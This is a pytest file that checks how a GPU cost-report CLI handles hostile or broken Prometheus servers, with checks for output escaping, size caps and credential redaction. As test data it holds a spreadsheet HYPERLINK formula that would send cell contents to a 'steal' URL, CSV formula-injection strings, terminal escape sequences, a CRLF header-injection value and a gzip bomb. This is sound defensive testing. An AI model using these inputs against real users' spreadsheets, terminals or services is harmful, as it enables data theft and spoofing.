"""`l9gpu report` against servers that answer badly: malformed API answers, NaN and
infinite samples, answers that never end, and servers that echo credentials back.

Each server is a real aiohttp server on loopback (tests/loopback_http.py) speaking HTTP
to the report's real client. A bad answer must end in one line on stderr and exit
status 1, never a traceback; an answer is read up to --max-response-bytes and no
further; and no value of a --header, token or password appears in anything the report
prints.
"""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import os
import subprocess
import sys
import time
from typing import Any

import pytest
from agent import REPO, run_cli
from aiohttp import web
from loopback_http import LoopbackServer
from waiting import PATIENCE

from exporter.app.cli import main

H = 3600
# Two whole hours, two days ago: in the past, aligned to the 1h step.
T0 = (int(time.time()) // H - 48) * H
PERIOD = ["--from", str(T0), "--to", str(T0 + 2 * H), "--step", "1h"]
LABELS = {"namespace": "ml", "pod": "p-0", "container": "c", "model": "NVIDIA H100 80GB HBM3", "node": "n1"}
SECRET = "k3y-5ecret-value-9f2"


def fixed_answer(body: bytes | str, status: int = 200, content_type: str = "application/json") -> web.Application:
    """An app that answers every query with the same body."""
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(status=status, body=body.encode() if isinstance(body, str) else body,
                            content_type=content_type)

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    return app


def matrix(*series: dict[str, Any]) -> dict[str, Any]:
    return {"status": "success", "data": {"resultType": "matrix", "result": list(series)}}


def empty(path: str) -> dict[str, Any]:
    """No data, in the shape the API path answers: a vector for instant queries."""
    if path.endswith("/api/v1/query"):
        return {"status": "success", "data": {"resultType": "vector", "result": []}}
    return matrix()


def empty_answer() -> web.Application:
    """A Prometheus API without data."""
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.json_response(empty(request.path))

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    return app


def report(base: str, *args: str) -> int:
    return main(["report", "--prometheus", base, *PERIOD, *args])


def one_line(err: str) -> str:
    assert err.count("\n") == 1 and err.endswith("\n"), err
    assert err.startswith("l9gpu report: ") and "Traceback" not in err
    return err


# ---- malformed answers: one line, exit 1 ----------------------------------------------------
SERIES = {"metric": LABELS, "values": [[T0, "1"]]}
MALFORMED = [
    ({"status": "success", "data": []}, "data: a list, not an object"),
    ({"status": "success"}, "data: null, not an object"),
    ({"status": "success", "data": {"resultType": "matrix", "result": "x"}}, "data.result: a string 'x', not a list"),
    ({"status": "success", "data": {"resultType": "scalar", "result": [T0, "1"]}},
     "data.resultType: 'scalar', expected matrix"),
    ({"status": "success", "data": {"result": []}}, "data.resultType: None, expected matrix"),
    (matrix(7), "data.result[0]: a number 7, not an object"),
    (matrix({"values": [[T0, "1"]]}), "data.result[0].metric: missing"),
    (matrix({"metric": ["node"], "values": [[T0, "1"]]}), "data.result[0].metric: a list, not an object"),
    (matrix({"metric": {"node": 5}, "values": [[T0, "1"]]}), "data.result[0].metric.'node': a number 5, not a string"),
    (matrix({"metric": LABELS}), "data.result[0].values: missing"),
    (matrix({"metric": LABELS, "values": {"a": 1}}), "data.result[0].values: an object, not a list"),
    (matrix({"metric": LABELS, "values": [[T0, "abc"]]}), "data.result[0].values[0][1]: 'abc', not a number"),
    (matrix({"metric": LABELS, "values": [[T0, None]]}), "data.result[0].values[0][1]: None, not a number"),
    (matrix({"metric": LABELS, "values": [[T0]]}), f"data.result[0].values[0]: [{T0}], not a [timestamp, value] pair"),
    (matrix({"metric": LABELS, "values": [T0, "1"]}), f"data.result[0].values[0]: {T0}, not a [timestamp, value] pair"),
    (matrix({"metric": LABELS, "values": [[T0, "1", "2"]]}), "not a [timestamp, value] pair"),
    (matrix({"metric": LABELS, "values": [["soon", "1"]]}), "data.result[0].values[0][0]: 'soon', not a timestamp"),
    (matrix({"metric": LABELS, "values": [[True, "1"]]}), "data.result[0].values[0][0]: True, not a timestamp"),
    ("[]", "not a Prometheus API answer ('[]')"),
    ("[" * 200_000, "not a Prometheus API answer"),  # nested deeper than any parser recurses
    ('{"status": "success", "data": {"resultType": "matrix", "result": [{"metric": {}, "values": [[1e999, "1"]]}]}}',
     "values[0][0]: inf, not a timestamp"),
]


@pytest.mark.parametrize("body,message", MALFORMED, ids=[m for _, m in MALFORMED])
def test_a_malformed_answer_is_one_line_and_exit_1(body, message, capsys):
    text = body if isinstance(body, str) else json.dumps(body)
    with LoopbackServer(fixed_answer(text)) as server:
        assert report(server.base) == 1
    err = one_line(capsys.readouterr().err)
    assert message in err, err
    if not isinstance(body, str):
        assert f"Prometheus at {server.base} gave an answer that is not the Prometheus API's" in err


def test_an_instant_query_answered_with_the_wrong_result_type(capsys):
    """The period's last partial step is read by an instant query, whose answer must be a vector."""
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.json_response(matrix())  # a matrix for every query, instant ones included

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    with LoopbackServer(app) as server:
        assert main(["report", "--prometheus", server.base, "--from", str(T0), "--to", str(T0 + H + H // 2),
                     "--step", "1h"]) == 1
    assert "data.resultType: 'matrix', expected vector" in one_line(capsys.readouterr().err)


def test_a_refusal_is_shown_escaped_on_one_line(capsys):
    """A server's error text reaches the terminal as text: no control character, no second line."""
    body = json.dumps({"status": "error", "errorType": "bad_data",
                       "error": "boom \x1b]0;PWN\x07\x1b[2J\nsecond line\r\u202eevil"})
    with LoopbackServer(fixed_answer(body, status=400)) as server:
        assert report(server.base) == 1
    err = one_line(capsys.readouterr().err)
    assert "\x1b" not in err and "\x07" not in err and "\r" not in err and "\u202e" not in err
    assert "Prometheus refused a query (HTTP 400, bad_data): boom \\x1b]0;PWN\\x07\\x1b[2J second line" in err
    assert "\\u202eevil" in err


# ---- queries too large for the server: asked in parts --------------------------------------
VM_REFUSAL = ("error when executing query: cannot select more than -search.maxSamplesPerQuery=1000 samples; "
              "possible solutions: increase the -search.maxSamplesPerQuery; reduce time range for the query")
PROMETHEUS_REFUSAL = "query processing would load too many samples into memory in query execution"


def refusing_wide_ranges(most_points: int) -> web.Application:
    """A server that refuses, as VictoriaMetrics does, a range query of more than
    ``most_points`` steps, and otherwise answers two series: one valued each step's time,
    one only at even steps' times."""
    async def answer(request: web.Request) -> web.Response:
        form = await request.post()
        start, end, step = (float(form[k]) for k in ("start", "end", "step"))
        times = [start + i * step for i in range(int((end - start) // step) + 1)]
        if len(times) > most_points:
            return web.json_response({"status": "error", "errorType": "422", "error": VM_REFUSAL}, status=422)
        every = {"metric": {"pod": "a"}, "values": [[t, str(t)] for t in times]}
        even = {"metric": {"pod": "b"}, "values": [[t, "1"] for t in times if int(t) % 120 == 0]}
        return web.json_response(matrix(every, *([even] if even["values"] else [])))

    app = web.Application()
    app.router.add_post("/api/v1/query_range", answer)
    return app


@pytest.mark.parametrize("most_points", [1, 3, 7, 100])
def test_a_range_too_large_for_the_server_is_asked_in_halves_with_every_point_once(most_points):
    from exporter.report.prom import Prometheus, PrometheusConfig

    async def ask(base: str) -> tuple[list[dict[str, Any]], int, int]:
        async with Prometheus(PrometheusConfig(base)) as prom:
            answer = await prom.query_range("x", T0, T0 + 600 * 60, 60)  # 601 steps
            return answer, prom.splits, prom.queries

    with LoopbackServer(refusing_wide_ranges(most_points)) as server:
        answer, splits, queries = asyncio.run(ask(server.base))
    steps = [float(T0 + 60 * i) for i in range(601)]
    by_pod = {s["metric"]["pod"]: s["values"] for s in answer}
    assert by_pod["a"] == [(t, t) for t in steps]
    assert by_pod["b"] == [(t, 1.0) for t in steps if int(t) % 120 == 0]
    assert len(answer) == 2
    assert (splits > 0) == (most_points < 601) and queries == 2 * splits + 1


def test_a_query_too_large_even_for_one_step_is_one_line_saying_what_to_raise(capsys):
    body = json.dumps({"status": "error", "errorType": "execution", "error": PROMETHEUS_REFUSAL})
    with LoopbackServer(fixed_answer(body, status=422)) as server:
        assert report(server.base) == 1
    err = one_line(capsys.readouterr().err)
    assert f"Prometheus refused a query (HTTP 422, execution): {PROMETHEUS_REFUSAL}; the report cannot ask it " \
           "in smaller parts: raise the server's limit (Prometheus, Thanos: --query.max-samples" in err


# ---- NaN and infinite samples ---------------------------------------------------------------
def stub_prometheus(points: dict[str, list[tuple[int, str]]],
                    workloads: list[dict[str, str]] | None = None) -> web.Application:
    """A Prometheus API that knows, per counter family, one series per workload (default:
    one, `LABELS`), with ``points`` as its last value in each step (what
    `last_over_time(c[step])` answers); no resets, no raw samples, no series that appears
    after the first step. It answers the report's queries as Prometheus would for that
    history: a series' last value before a time, and per group the differences of the
    steps' values."""
    def family_of(expr: str) -> str:
        return expr[expr.index("last_over_time(") + len("last_over_time("):].split("{")[0].split("[")[0]

    def number(value: float) -> str:
        return "NaN" if value != value else ("+Inf" if value == float("inf") else
                                            "-Inf" if value == -float("inf") else repr(value))

    async def query_range(request: web.Request) -> web.Response:
        expr = (await request.post())["query"]
        if not expr.startswith("sum by ("):  # no falls, nothing appears, no recording rules
            return web.json_response(matrix())
        by = [label.strip() for label in expr[len("sum by ("):expr.index(")")].split(",")]
        values = [(ts, float(v)) for ts, v in points.get(family_of(expr), [])]
        groups: dict[tuple, list] = {}
        for labels in workloads or [LABELS]:
            key = tuple(sorted((k, labels[k]) for k in by if labels.get(k)))
            row = groups.setdefault(key, [0.0] * (len(values) - 1))
            for k in range(1, len(values)):
                row[k - 1] += values[k][1] - values[k - 1][1]
        return web.json_response(matrix(*({"metric": dict(key), "values": [[values[k + 1][0], number(v)]
                                                                            for k, v in enumerate(row)]}
                                          for key, row in groups.items())))

    async def query(request: web.Request) -> web.Response:
        form = await request.post()
        at = float(form["time"])
        expr = form["query"]
        known = [(ts, v) for ts, v in points.get(family_of(expr), []) if ts <= at] if "last_over_time(" in expr else []
        if not known:
            return web.json_response({"status": "success", "data": {"resultType": "vector", "result": []}})
        return web.json_response({"status": "success", "data": {"resultType": "vector", "result": [
            {"metric": dict(labels), "value": [at, known[-1][1]]} for labels in workloads or [LABELS]]}})

    app = web.Application()
    app.router.add_post("/api/v1/query_range", query_range)
    app.router.add_post("/api/v1/query", query)
    return app


def strict_loads(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise AssertionError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_nan_and_infinite_samples_are_skipped_and_the_json_stays_strict(tmp_path, capsys):
    """A NaN or infinite sample counts as no sample: the rise is counted from the last real one."""
    t = [T0, T0 + H, T0 + 2 * H]
    points = {
        "container_gpu_allocation_seconds_total": [(t[0], "0"), (t[1], "NaN"), (t[2], "7200")],
        "container_gpu_usage_seconds_total": [(t[0], "0"), (t[1], "+Inf"), (t[2], "3600")],
        "container_gpu_energy_joules_total": [(t[0], "0"), (t[1], "-Inf"), (t[2], "7200000")],
        "container_gpu_idle_seconds": [(t[0], "0"), (t[1], "0"), (t[2], "NaN")],
    }
    out = tmp_path / "r.json"
    with LoopbackServer(stub_prometheus(points)) as server:
        assert report(server.base, "-o", str(out)) == 0
        assert report(server.base, "--format", "csv") == 0
    doc = strict_loads(out.read_text())
    group = doc["groups"][0]
    assert group["group"] == "ml"
    assert group["gpu_hours_allocated"] == pytest.approx(2.0) and group["gpu_hours_used"] == pytest.approx(1.0)
    assert group["energy_kwh"] == pytest.approx(2.0) and group["zombie_hours"] == 0.0
    assert group["waste_ratio"] == pytest.approx(0.5)
    csv_text = capsys.readouterr().out
    assert "nan" not in csv_text.lower() and "inf" not in csv_text.lower()


def test_a_figure_that_is_not_finite_is_null_in_json_and_empty_in_csv():
    from exporter.report.output import to_csv, to_json

    group = {"group": "ml", "gpu_hours_used": float("nan"), "gpu_hours_allocated": float("inf"),
             "waste_gpu_hours": -float("inf"), "zombie_hours": 0.0, "stalled_gpu_hours": float("nan"), "energy_kwh": 1.5,
             **{k: None for k in ("allocated_cost", "effective_cost", "waste_cost", "energy_cost", "total_cost")},
             "waste_ratio": float("nan"), "workloads": 1, "top_waste": []}
    doc = strict_loads(to_json({"groups": [group], "totals": {"x": [float("nan"), 1.0]}}))
    assert doc["groups"][0]["gpu_hours_used"] is None and doc["groups"][0]["gpu_hours_allocated"] is None
    assert doc["groups"][0]["waste_gpu_hours"] is None and doc["totals"]["x"] == [None, 1.0]
    assert to_csv({"groups": [group]}).splitlines()[1] == '"ml","","","",0.0,"",1.5,"","","","","","",1,"",""'


def test_json_names_are_exact_and_hold_no_raw_control_character():
    from exporter.report.output import to_json

    name = "équipe\x1b[2J\x9b2J\u202etxt.exe\u2028\x7f"
    text = to_json({"groups": [{"group": name}]})
    assert "équipe" in text  # letters stay readable
    assert not any(c in text for c in "\x1b\x9b\u202e\u2028\x7f")
    assert "\\u001b[2J\\u009b2J\\u202etxt.exe\\u2028\\u007f" in text
    assert strict_loads(text)["groups"][0]["group"] == name


# ---- CSV for spreadsheets ------------------------------------------------------------------
HOSTILE_ACCOUNTS = ['=HYPERLINK("http://host/steal?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tlab",
                    "\rlab", "lab\rsplit", "lab\nsplit", "lab;=1+1", "lab,comma", 'say "hi"', "plain-lab"]
DANGEROUS = tuple("=+-@\t\r")


def test_csv_cells_never_start_a_formula_and_keep_their_row(capsys):
    """Slurm accounts (chosen by whoever submits the job) as groups: every text cell is
    quoted, a formula start gets a leading ', a CR or LF inside a name stays in its cell."""
    workloads = [{"slurm_job_id": str(100 + i), "slurm_user": "u", "slurm_account": account,
                  "model": "NVIDIA H100 80GB HBM3", "node": "n1"} for i, account in enumerate(HOSTILE_ACCOUNTS)]
    t = [T0, T0 + H, T0 + 2 * H]
    points = {"container_gpu_allocation_seconds_total": [(t[0], "0"), (t[1], "3600"), (t[2], "7200")],
              "container_gpu_usage_seconds_total": [(t[0], "0"), (t[1], "900"), (t[2], "1800")]}
    with LoopbackServer(stub_prometheus(points, workloads)) as server:
        assert report(server.base, "--by", "slurm_account", "--format", "csv") == 0
    text = capsys.readouterr().out
    rows = [row for row in csv.reader(io.StringIO(text, newline=""))
            if row[0] not in ("(unallocated)", "(price overrides)", "(capacity)")]  # the reconciliation lines
    assert rows[0][0] == "group" and len(rows) == 1 + len(HOSTILE_ACCOUNTS)  # no row split by a CR or LF
    got = {row[0]: row for row in rows[1:]}
    want = {("'" + a if a.startswith(DANGEROUS) else a) for a in HOSTILE_ACCOUNTS}
    assert set(got) == want
    for row in got.values():
        assert not row[0].startswith(DANGEROUS) and not row[-1].startswith(DANGEROUS)
        assert float(row[2]) == pytest.approx(2.0) and float(row[1]) == pytest.approx(0.5)  # figures stay numbers
    assert got["'=HYPERLINK(\"http://host/steal?\"&A1,\"Open\")"][-2] == "slurm job 100 (u)=1.5h"  # then carbon
    # the bytes as a spreadsheet reads them: the names quoted, the figures bare
    assert '\n"\'=HYPERLINK(""http://host/steal?""&A1,""Open"")",0.5,2.0,1.5,' in text
    assert '\n"lab\rsplit",0.5,2.0,' in text and '\n"plain-lab",0.5,2.0,' in text


def test_negative_figures_stay_numbers_in_csv():
    from exporter.report.output import to_csv

    group = {"group": "-lab", "gpu_hours_used": -1.5, "gpu_hours_allocated": 2.0, "waste_gpu_hours": 3.5,
             "zombie_hours": 0.0, "stalled_gpu_hours": 0.5, "energy_kwh": -0.25, "allocated_cost": -4.0, "effective_cost": None,
             "waste_cost": None, "energy_cost": None, "total_cost": -4.0, "waste_ratio": 1.75, "workloads": 2,
             "top_waste": [{"workload": "-lab/p/c", "waste_gpu_hours": 3.5}]}
    line = to_csv({"groups": [group]}).splitlines()[1]
    assert line == '"\'-lab",-1.5,2.0,3.5,0.0,0.5,-0.25,-4.0,"","","",-4.0,1.75,2,"\'-lab/p/c=3.5h",""'


# ---- the size cap ---------------------------------------------------------------------------
def endless_answer() -> web.Application:
    """A 200 answer that starts like a matrix and never ends (1 MiB chunks, for ever)."""
    async def answer(request: web.Request) -> web.StreamResponse:
        await request.read()
        resp = web.StreamResponse(headers={"Content-Type": "application/json"})
        await resp.prepare(request)
        await resp.write(b'{"status":"success","data":{"resultType":"matrix","result":[')
        chunk = (b'{"metric":{},"values":[]},' * 40330)[: 2**20]
        try:
            while True:
                await resp.write(chunk)
        except (ConnectionError, RuntimeError):  # the client hung up
            pass
        return resp

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    return app


def run_report_measured(args: list[str]) -> tuple[int, str, float, float]:
    """Run `l9gpu report ARGS` in a child; (status, stderr, seconds, peak RSS in MiB)."""
    env = {**os.environ, "PYTHONPATH": str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    started = time.monotonic()
    with open(os.devnull, "wb") as out, subprocess.Popen([sys.executable, "-m", "exporter", "report", *args],
                                                         cwd=REPO, env=env, stdout=out,
                                                         stderr=subprocess.PIPE) as child:
        assert child.stderr is not None
        err = child.stderr.read().decode()  # until the child exits and closes it
        _, status, usage = os.wait4(child.pid, 0)  # the child's own peak RSS, in KiB on Linux
        child.returncode = os.waitstatus_to_exitcode(status)
    return child.returncode, err, time.monotonic() - started, usage.ru_maxrss / 1024


def test_an_endless_answer_stops_at_the_cap_with_bounded_memory():
    cap = 16 * 2**20
    with LoopbackServer(empty_answer()) as quick:
        status, err, _, baseline_mib = run_report_measured(["--prometheus", quick.base, *PERIOD])
    assert status == 0, err
    with LoopbackServer(endless_answer()) as server:
        status, err, seconds, peak_mib = run_report_measured(
            ["--prometheus", server.base, *PERIOD, "--max-response-bytes", "16MiB", "--timeout", "10m"])
    assert status == 1
    assert err == (f"l9gpu report: Prometheus at {server.base} sent an answer over --max-response-bytes {cap} and "
                   "was cut off; narrow the period or the --selector, or raise the cap\n")
    # Cut off at the cap, not by --timeout; a few queries run at once, each holding at most
    # the cap: far from the gigabytes an unbounded read reaches in that time.
    assert seconds < PATIENCE
    assert peak_mib < baseline_mib + 4 * cap / 2**20 + 64, (peak_mib, baseline_mib)


def test_endless_answers_at_the_default_cap_hold_one_answer_not_one_per_query():
    """Every query answered without end, no flag: the report stops with one line, having held
    at most one answer at the cap (256 MiB) and the others at the size read side by side
    (16 MiB each), not four answers of 256 MiB (a gigabyte)."""
    from exporter.report.prom import DEFAULT_MAX_RESPONSE_BYTES, SIDE_BY_SIDE_BYTES

    with LoopbackServer(empty_answer()) as quick:
        status, err, _, baseline_mib = run_report_measured(["--prometheus", quick.base, *PERIOD])
    assert status == 0, err
    with LoopbackServer(endless_answer()) as server:
        status, err, _, peak_mib = run_report_measured(["--prometheus", server.base, *PERIOD, "--timeout", "10m"])
    assert (status, err) == (1, f"l9gpu report: Prometheus at {server.base} sent an answer over --max-response-bytes "
                                f"{DEFAULT_MAX_RESPONSE_BYTES} and was cut off; narrow the period or the --selector, "
                                "or raise the cap\n")
    bound_mib = (DEFAULT_MAX_RESPONSE_BYTES + 3 * SIDE_BY_SIDE_BYTES) / 2**20 + 64  # + the reads' own buffers
    assert peak_mib < baseline_mib + bound_mib, (peak_mib, baseline_mib)


def test_an_announced_size_over_the_cap_is_refused_before_reading(capsys):
    async def answer(request: web.Request) -> web.StreamResponse:
        await request.read()
        resp = web.StreamResponse(headers={"Content-Type": "application/json", "Content-Length": str(10**12)})
        await resp.prepare(request)
        try:
            await resp.write(b'{"status":"success"')  # then nothing: the client must not wait for the rest
        except ConnectionError:
            pass
        return resp

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    with LoopbackServer(app) as server:
        assert report(server.base, "--max-response-bytes", "1MiB") == 1
    err = one_line(capsys.readouterr().err)
    assert f"answered {10**12} bytes, more than --max-response-bytes {2**20}" in err


def test_a_compressed_answer_is_capped_at_its_decompressed_size(capsys):
    """A small gzip body that inflates to 64 MiB (a "zip bomb") is cut off at the cap."""
    bomb = gzip.compress(b'{"status":"success","data":{"resultType":"matrix","result":[' + b" " * 64 * 2**20,
                         compresslevel=1)
    assert len(bomb) < 2**20

    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(body=bomb, headers={"Content-Type": "application/json", "Content-Encoding": "gzip"})

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    with LoopbackServer(app) as server:
        assert report(server.base, "--max-response-bytes", "8MiB") == 1
    assert f"sent an answer over --max-response-bytes {8 * 2**20} and was cut off" in one_line(capsys.readouterr().err)


@pytest.mark.parametrize("value,message", [
    ("lots", "--max-response-bytes: invalid size 'lots'"),
    ("0", "--max-response-bytes: invalid size '0': must be above zero"),
    ("10XB", "--max-response-bytes: invalid size '10XB'"),
])
def test_a_bad_size_is_a_usage_error(value, message, capsys):
    assert main(["report", "--prometheus", "http://127.0.0.1:1", *PERIOD, "--max-response-bytes", value]) == 2
    assert message in one_line(capsys.readouterr().err)


def test_sizes():
    from exporter.report.prom import DEFAULT_MAX_RESPONSE_BYTES, parse_size

    assert parse_size("268435456") == DEFAULT_MAX_RESPONSE_BYTES == parse_size("256MiB")
    assert parse_size("64MB") == 64_000_000 and parse_size("1.5GiB") == 3 * 2**29 and parse_size("2 KiB") == 2048


# ---- extra headers: validated, and their values never shown ---------------------------------
def header_flags(*values: str) -> list[str]:
    return [arg for value in values for arg in ("--header", value)]


@pytest.mark.parametrize("flags,message", [
    (header_flags(f"Authorization Bearer {SECRET}"), "--header #1: expected 'Name: value'"),
    (header_flags("X-Scope-OrgID: a", SECRET), "--header #2: expected 'Name: value'"),
    (header_flags(f"X Token: {SECRET}"), "--header #1: the text before ':' is not a header name"),
    (header_flags(f": {SECRET}"), "--header #1: expected 'Name: value'"),
    (header_flags("X-Token:  "), "--header X-Token: the value is empty"),
    (header_flags(f"X-Token: {SECRET}\x01"), "--header X-Token: the value holds a control or non-ASCII character"),
    (header_flags(f"X-Token: {SECRET}\r\nX-Injected: 1"),
     "--header X-Token: the value holds a control or non-ASCII character"),
    (header_flags(f"X-Token: {SECRET}é"), "--header X-Token: the value holds a control or non-ASCII character"),
    (header_flags("Content-Length: 5"), "--header Content-Length: the HTTP client sets this header itself"),
    (header_flags(f"X-Token: {SECRET}", f"x-token: {SECRET}2"), "--header x-token: given twice"),
    (header_flags(f"Authorization: Bearer {SECRET}") + ["--bearer-token", "other-token"],
     "--header Authorization and --bearer-token or --username: give one"),
])
def test_a_bad_header_flag_is_one_line_without_its_value(flags, message, capsys):
    assert main(["report", "--prometheus", "http://127.0.0.1:1", *PERIOD, *flags]) == 2
    err = one_line(capsys.readouterr().err)
    assert message in err and SECRET not in err, err


def echoing_server() -> web.Application:
    """A server that wants ``X-Scope-OrgID: tenant-1`` and echoes the X-Api-Key it got in
    every answer it can: 401s, errors, non-JSON pages; /ok/ answers empty results."""
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        key = request.headers.get("X-Api-Key", "")
        if request.headers.get("X-Scope-OrgID") != "tenant-1":
            return web.Response(status=401, text=f"no org id (key {key})")
        if request.path.startswith("/error/"):
            return web.json_response({"status": "error", "errorType": "bad_data", "error": f"bad key {key}"},
                                     status=400)
        if request.path.startswith("/page/"):
            return web.Response(text=f"<html>key={key}</html>", content_type="text/html")
        if request.path.startswith("/shape/"):
            return web.json_response(matrix({"metric": {"key": key}, "values": [[T0, key]]}))
        return web.json_response(empty(request.path))

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    return app


def test_header_values_never_appear_in_output_or_errors(tmp_path):
    """Run as a user does (a child process): stdout, stderr and the report file never hold
    the secret, whatever the server sends back."""
    with LoopbackServer(echoing_server()) as server:
        def run(prefix: str, *extra: str) -> subprocess.CompletedProcess:
            result = run_cli(["report", "--prometheus", server.base + prefix, *PERIOD,
                              "--header", f"X-Api-Key: {SECRET}", *extra])
            assert SECRET not in result.stdout + result.stderr, result
            assert "Traceback" not in result.stderr
            return result

        out = tmp_path / "r.json"
        ok = run("/ok", "--header", "X-Scope-OrgID: tenant-1", "-o", str(out))
        assert ok.returncode == 0, ok.stderr
        doc = strict_loads(out.read_text())
        assert SECRET not in out.read_text()
        assert doc["source"]["headers"] == ["X-Api-Key", "X-Scope-OrgID"]
        stdout = run("/ok", "--header", "X-Scope-OrgID: tenant-1", "--format", "json")
        assert stdout.returncode == 0 and json.loads(stdout.stdout)["source"]["prometheus"] == server.base + "/ok"
        refused = run("/ok")
        assert refused.returncode == 1 and "refused the credentials (HTTP 401)" in refused.stderr
        assert "--header" in refused.stderr
        for prefix, shown in (("/error", "Prometheus refused a query (HTTP 400, bad_data): bad key ***"),
                              ("/page", "not a Prometheus API answer ('<html>key=***</html>')"),
                              ("/shape", "data.result[0].values[0][1]: '***', not a number")):
            result = run(prefix, "--header", "X-Scope-OrgID: tenant-1")
            assert result.returncode == 1 and shown in result.stderr, result.stderr
        # from the environment, as every flag: several headers separated by commas
        env = run_cli(["report", "--prometheus", server.base + "/ok", *PERIOD, "--format", "json"],
                      env={"L9GPU_HEADER": f"X-Scope-OrgID: tenant-1, X-Api-Key: {SECRET}"})
        assert env.returncode == 0, env.stderr
        assert SECRET not in env.stdout + env.stderr
        assert json.loads(env.stdout)["source"]["headers"] == ["X-Scope-OrgID", "X-Api-Key"]
        # every request carried both headers, as given
        sent = [headers for _, path, headers in server.requests if path.startswith("/ok/")]
        assert sent and all(h.get("X-Api-Key") == SECRET for h in sent)


def test_a_bearer_token_and_a_password_echoed_back_are_hidden(capsys):
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.json_response({"status": "error", "errorType": "bad_data",
                                  "error": f"who is {request.headers.get('Authorization')}?"}, status=400)

    app = web.Application()
    app.router.add_post("/{tail:.*}", answer)
    with LoopbackServer(app) as server:
        assert report(server.base, "--bearer-token", SECRET) == 1
        err = one_line(capsys.readouterr().err)
        assert SECRET not in err and "who is ***?" in err
        assert report(server.base, "--username", "finance", "--password", SECRET) == 1
        err = one_line(capsys.readouterr().err)
        assert SECRET not in err and "who is ***?" in err  # the whole "Basic <base64>" value
